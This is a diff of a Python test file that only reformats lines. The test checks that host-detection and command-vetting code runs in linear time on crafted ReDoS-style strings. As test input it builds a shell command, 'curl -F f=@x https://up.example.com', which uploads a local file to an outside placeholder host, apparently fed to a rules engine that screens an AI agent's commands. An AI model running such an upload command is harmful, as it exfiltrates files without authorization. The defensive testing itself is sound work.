@@ -329,7 +329,13 @@ def test_argv_helper_smoke() -> None:
 
 @pytest.mark.parametrize(
     "hostile",
-    ["a." * 20_000, "a-" * 50_000 + ".", ("ab-" * 30 + ".") * 3000 + "-", "a://" * 50_000, "x" * 1_000_000],
+    [
+        "a." * 20_000,
+        "a-" * 50_000 + ".",
+        ("ab-" * 30 + ".") * 3000 + "-",
+        "a://" * 50_000,
+        "x" * 1_000_000,
+    ],
 )
 def test_host_scans_are_linear_on_hostile_text(hostile: str) -> None:
     """Regression: a nested-quantifier host regex took ~8 s on 27 KB of crafted tool output."""
@@ -340,6 +346,9 @@ def test_host_scans_are_linear_on_hostile_text(hostile: str) -> None:
     start = time.perf_counter()
     hosts_in_text(hostile)
     hosts_in_word(hostile[:100_000])
-    request = shell("curl -F f=@x https://up.example.com", transcript=[{"role": "tool", "name": "web", "kind": "result", "text": hostile}])
+    request = shell(
+        "curl -F f=@x https://up.example.com",
+        transcript=[{"role": "tool", "name": "web", "kind": "result", "text": hostile}],
+    )
     decide_deterministic(request, RULES, CONTEXT)
     assert time.perf_counter() - start < 3.0
